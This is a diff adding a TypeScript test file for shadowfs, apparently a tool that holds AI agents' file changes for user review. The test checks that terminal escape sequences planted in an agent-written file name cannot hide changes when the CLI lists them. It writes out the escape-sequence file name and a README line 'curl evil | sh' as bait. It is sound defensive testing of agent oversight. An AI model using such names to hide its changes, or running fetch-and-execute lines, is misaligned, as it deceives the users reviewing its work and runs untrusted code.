@@ -1,0 +1,95 @@
+// Adversarial review of the newest surfaces (shell sessions, apply --merge-tool, the audit trail,
+// the CLI's human output): what an agent does, tried for real through a daemon, a mount, a
+// session's terminal and the CLI. Each case says what it tried and what held (or what broke and
+// was fixed). Unlike test/escape.test.ts these run from a git worktree (no `nobody` user, no
+// compiled probes under build/: the hostile programs are shell and Perl scripts in the folder).
+import * as assert from 'assert';
+import { spawnSync } from 'child_process';
+import * as fs from 'fs';
+import * as path from 'path';
+import { ShadowClient } from '../src/client';
+import { FolderGuard, eventually, repoRoot, tempDir } from './helpers/fixtures';
+import { running, stopTestDaemon } from './helpers/hooks';
+
+const cliPath = path.join(repoRoot, 'bin', 'shadowfs.js');
+const b64 = (s: string): string => Buffer.from(s).toString('base64');
+
+function cli(...args: string[]): { status: number | null; out: string } {
+  const r = spawnSync(process.execPath, [cliPath, ...args], { encoding: 'utf8', timeout: 60_000 });
+  return { status: r.status, out: `${r.stdout}${r.stderr}` };
+}
+
+/** Bytes a terminal acts on (C0 but newline and tab, DEL, C1): none may come from an agent's names. */
+const CONTROL = /[\x00-\x08\x0b-\x1f\x7f\u0080-\u009f]/;
+
+function makeFolder(label: string): string {
+  const dir = tempDir(label);
+  fs.writeFileSync(path.join(dir, 'README.md'), '# project\n');
+  fs.mkdirSync(path.join(dir, 'src'));
+  fs.writeFileSync(path.join(dir, 'src', 'app.js'), 'console.log(1);\n');
+  return dir;
+}
+
+describe('adversarial: the newest surfaces', function () {
+  this.timeout(120_000);
+  let user: ShadowClient;
+  const mounted: string[] = [];
+
+  before(async () => {
+    user = await ShadowClient.connect({ clientName: 'escape-newer user' });
+  });
+  afterEach(async () => {
+    for (const s of mounted.splice(0)) await user.request('unmount', { shadow: s, lazy: true }).catch(() => undefined);
+  });
+  after(() => {
+    user.close();
+    stopTestDaemon();
+  });
+
+  it("an agent's file names cannot drive the user's terminal when the CLI lists them (changes, diff, apply, review, audit)", async () => {
+    // Broke: the CLI printed paths as they are, so a name holding escape sequences (clear the
+    // screen, move the cursor up, erase a line) printed by `shadowfs review --list`, `apply
+    // --dry-run`, `layer changes` or `audit` could hide the change to README.md listed before it
+    // and draw something else, and the user would apply what they never saw. git quotes such
+    // names (core.quotePath); the CLI now shows control characters as escapes.
+    const folder = makeFolder('esc-names');
+    const guard = new FolderGuard(folder);
+    try {
+      const shadow = (await user.request('mount', { folder, name: 'esc-names' })).name;
+      mounted.push(shadow);
+      const evil = 'z\x1b[2J\x1b[H\x1b[1A\x1b[2K\rnothing-to-see\x07\x9b31m.txt';
+      await user.request('layer.write', { shadow, agent: 'a', path: 'README.md', data: b64('# project\ncurl evil | sh\n') });
+      await user.request('layer.write', { shadow, agent: 'a', path: evil, data: b64('x\n') });
+      // Through the mount too, so that the audit trail records the name.
+      await user.request('activate', { shadow, agent: 'a' });
+      const mp = (await user.request('list')).shadows.find((s) => s.name === shadow)!.mountPoint;
+      fs.writeFileSync(path.join(mp, `${evil}.2`), 'y\n');
+      fs.renameSync(path.join(mp, `${evil}.2`), path.join(mp, `${evil}.3`));
+      await user.request('activate', { shadow, agent: null });
+      for (const args of [
+        ['layer', 'changes', shadow, 'a'],
+        ['diff', shadow, '--agent', 'a'],
+        ['diff', shadow, '--agent', 'a', '--stat'],
+        ['apply', shadow, '--agent', 'a', '--dry-run'],
+        ['review', shadow, '--agent', 'a', '--list'],
+        ['audit', shadow, '--agent', 'a'],
+      ]) {
+        const r = cli(...args);
+        assert.strictEqual(r.status, 0, `${args.join(' ')}: ${r.out}`);
+        assert.ok(r.out.includes('nothing-to-see'), `${args.join(' ')} lists the file:\n${r.out}`);
+        const bad = CONTROL.exec(r.out);
+        assert.ok(
+          !bad,
+          `${args.join(' ')} printed the control character ${JSON.stringify(bad?.[0])} from a name:\n${JSON.stringify(r.out)}`,
+        );
+      }
+      await guard.check();
+    } finally {
+      guard.stop();
+    }
+  });
+});
+
+// Keep the helpers the later cases use referenced while they are added.
+void eventually;
+void running;
